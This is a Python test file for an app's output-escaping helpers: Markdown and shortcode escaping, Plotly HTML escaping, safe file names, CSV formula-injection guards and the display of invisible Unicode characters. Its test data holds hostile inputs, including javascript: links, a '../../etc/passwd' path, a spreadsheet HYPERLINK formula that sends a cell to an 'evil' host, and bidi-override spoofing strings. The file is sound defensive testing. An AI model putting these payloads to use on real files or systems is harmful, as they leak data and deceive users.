"""Names are data: Markdown escaping for the app, Plotly escaping, CSV cells that never run.

``plain`` is checked against a CommonMark renderer (markdown-it-py, which rich
already depends on): whatever the text, the rendered HTML holds no element and
reads back as the text itself.
"""

import csv
import html
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from teamsim._csvsafe import csv_cell, csv_text
from teamsim._text import printable
from teamsim.figures import plotly_text
from teamsim_app.safe import file_name, plain, plain_lines

from .conftest import ROOT

markdown_it = pytest.importorskip("markdown_it")
MD = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"])

HOSTILE = ["![t](http://127.0.0.1:9/x.png)", "**bold**", "<b>b</b>", "[l](javascript:alert(1))",
           ":red[x]", "$x^2$", "`code`", "# h", "- item", "1. item", "> quote", "a | b", "~~s~~",
           "&amp; &lt;", "<http://x>", "\\*", "line\nbreak", "_i_", "a -> b", ":smile:"]


def rendered_text(markdown: str) -> str:
    """Inline HTML of ``markdown`` with its one paragraph unwrapped; fails on any element."""
    out = MD.renderInline(markdown)
    assert "<" not in out, (markdown, out)  # no tag at all: no image, link, emphasis, code
    return html.unescape(out)


@pytest.mark.parametrize("text", HOSTILE)
def test_plain_renders_as_the_text_itself(text):
    assert rendered_text(plain(text)).replace("\u2060", "") == printable(text)


@given(st.text(max_size=40))
def test_plain_any_text_renders_as_itself(text):
    assert rendered_text(plain(text)).replace("\u2060", "") == printable(text)


def test_plain_breaks_streamlit_shortcodes_and_arrows():
    # emoji/icon shortcodes and typographic arrows are replaced after parsing: a joiner stops them
    assert not re.search(r":[\w+-]+:", plain(":smile: :material/home: :streamlit:").replace("\\", ""))
    assert "->" not in plain("a -> b").replace("\\", "")
    assert plain("group:default/team") == "group\\:default\\/team"  # no joiner where none is needed


def test_plain_breaks_bare_urls_and_emails():
    # GFM turns bare URLs and e-mail addresses into links after parsing, escapes or not
    text = plain("http://127.0.0.1:9/x.png WWW.example.com ann@example.com").replace("\\", "")
    assert not re.search(r"://|www\.|@\w", text, re.IGNORECASE)


def test_plain_lines_keeps_lines_and_escapes_each():
    text = "bad.yaml:3: error: unknown tool '![x](http://h/x.png)'\n  fix: declare it"
    lines = plain_lines(text).split("  \n")
    assert len(lines) == 2
    assert [rendered_text(x).replace("\u2060", "") for x in lines] == [
        "bad.yaml:3: error: unknown tool '![x](http://h/x.png)'", "fix: declare it"]


def test_file_name_is_a_plain_file_name():
    assert file_name("![x](http://h/x.png)", ".yaml") == "x-http-h-x.png.yaml"
    assert file_name("../../etc/passwd", ".csv") == "etc-passwd.csv"
    assert file_name(None, "-report.json") == "scenario-report.json"


@pytest.mark.parametrize("text, escaped", [
    ("<b>x</b>", "&lt;b&gt;x&lt;/b&gt;"), ("a & b", "a &amp; b"), ("&lt;", "&amp;lt;"),
    ('<a href="javascript:x">', '&lt;a href="javascript:x"&gt;'), ("Ann", "Ann")])
def test_plotly_text(text, escaped):
    assert plotly_text(text) == escaped
    assert html.unescape(plotly_text(text)) == text  # what Plotly shows


# ------------------------------------------------------------------------------------ CSV
@pytest.mark.parametrize("cell, written", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("\n=x", "'\n=x"),
    ('=HYPERLINK("http://evil/?"&A1,"x")', '\'=HYPERLINK("http://evil/?"&A1,"x")'),
    ("Ann", "Ann"), ("a=b", "a=b"), ("", ""), (" =x", " =x"),
])
def test_csv_text_cells_never_start_a_formula(cell, written):
    text = csv_text([{"name": cell, "n": 1}])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["name", "n"], [written, "1"]]
    assert text.splitlines()[1].startswith('"')  # every text cell is quoted


@pytest.mark.parametrize("number, written", [(-3, "-3"), (2.5, "2.5"), (-0.25, "-0.25"),
                                             (True, "True"), (float("nan"), '""')])
def test_csv_numbers_stay_numbers(number, written):
    line = csv_text([{"x": number}]).splitlines()[1]
    assert line == written  # unquoted: a spreadsheet reads a number (negative ones too)
    assert csv_cell(number) == ("" if number != number else number)


def test_csv_columns_order_and_missing_cells():
    text = csv_text([{"a": 1}, {"b": "-x"}], columns=["b", "a", "c"])
    assert text == '"b","a","c"\n"",1,""\n"\'-x","",""\n'
    assert csv_text([{"a": 1}, {"b": 2}]).splitlines()[0] == '"a","b"'


def test_every_app_download_goes_through_csv_text():
    pages = (ROOT / "teamsim_app").glob("*.py")
    offenders = [p.name for p in pages if ".to_csv(" in p.read_text() or "csv.writer" in p.read_text()]
    assert offenders == []
    assert all("csv_text(" in (ROOT / "teamsim_app" / f).read_text()
               for f in ("team.py", "hiring.py", "network.py", "ownership.py"))


# ------------------------------------------------------------------------------------ invisible
def _format_characters() -> list[str]:
    import sys
    import unicodedata
    return [chr(c) for c in range(sys.maxunicode + 1) if unicodedata.category(chr(c)) == "Cf"]


def test_printable_shows_every_format_character():
    cf = _format_characters()
    assert len(cf) >= 160  # Unicode 14: 163
    for c in cf:
        shown = printable(f"a{c}b")
        o = ord(c)
        assert shown == "a" + (f"\\x{o:02x}" if o < 0x100 else f"\\u{o:04x}" if o < 0x10000
                               else f"\\U{o:08x}") + "b", (hex(o), shown)


@pytest.mark.parametrize("text, shown", [
    ("admin\u200b", "admin\\u200b"),                       # zero-width space
    ("ad\u200dmin\u200c", "ad\\u200dmin\\u200c"),          # joiners
    ("\u202eevil\u202c", "\\u202eevil\\u202c"),            # right-to-left override
    ("\u2067x\u2069", "\\u2067x\\u2069"),                  # isolates
    ("a\u2060b\u2064", "a\\u2060b\\u2064"),                # word joiner, invisible plus
    ("\ufeffAnn", "\\ufeffAnn"),                           # byte order mark
    ("\U000e0041\U000e0042", "\\U000e0041\\U000e0042"),    # tag characters (hidden ASCII)
    ("\u3164", "\\u3164"),                                 # Hangul filler: a blank "letter"
    ("Zoë Ωmega 日本 👩", "Zoë Ωmega 日本 👩"),            # visible text is untouched
])
def test_printable_and_plain_show_invisible_characters(text, shown):
    assert printable(text) == shown
    assert rendered_text(plain(text)).replace("\u2060", "") == shown  # the app's joiners only


def test_json_output_escapes_invisible_characters(capsys):
    import json

    from teamsim.cli._app import emit_json
    emit_json({"name": "a\u200bb\u202e\U000e0041"})
    out = capsys.readouterr().out
    assert "\\u200b" in out and "\\u202e" in out and "\\udb40\\udc41" in out
    assert json.loads(out) == {"name": "a\u200bb\u202e\U000e0041"}
    assert not any(c in out for c in "\u200b\u202e\U000e0041")


def _draw_table(rows: int) -> None:
    import pandas as pd

    from teamsim_app.safe import table

    table(pd.DataFrame({"name": ["**b**"] * rows, "n": range(rows), "x": [16.0] * rows}), key="t")


@pytest.mark.parametrize("rows", [1, 40, 41])
def test_table_is_static_up_to_40_rows_with_text_as_plain(rows):
    """safe.table: a static table (text cells through plain, numbers kept) up to STATIC_ROWS
    rows; a data grid (plain text already) above."""
    import pyarrow as pa
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_function(_draw_table, args=(rows,)).run()
    assert not at.exception
    if rows <= 40:
        [t] = at.table
        assert not at.dataframe
        assert list(t.value["name"]) == [plain("**b**")] * rows == ["\\*\\*b\\*\\*"] * rows
        assert list(t.value["n"]) == list(range(rows))
        assert list(t.value["x"]) == [16.0] * rows  # a number, shown as 16 (not 16.0000)
        shown = pa.ipc.open_stream(t.proto.arrow_data.styler.display_values).read_pandas()
        assert list(shown["x"]) == ["16"] * rows
    else:
        [d] = at.dataframe
        assert not at.table and list(d.value["name"]) == ["**b**"] * rows
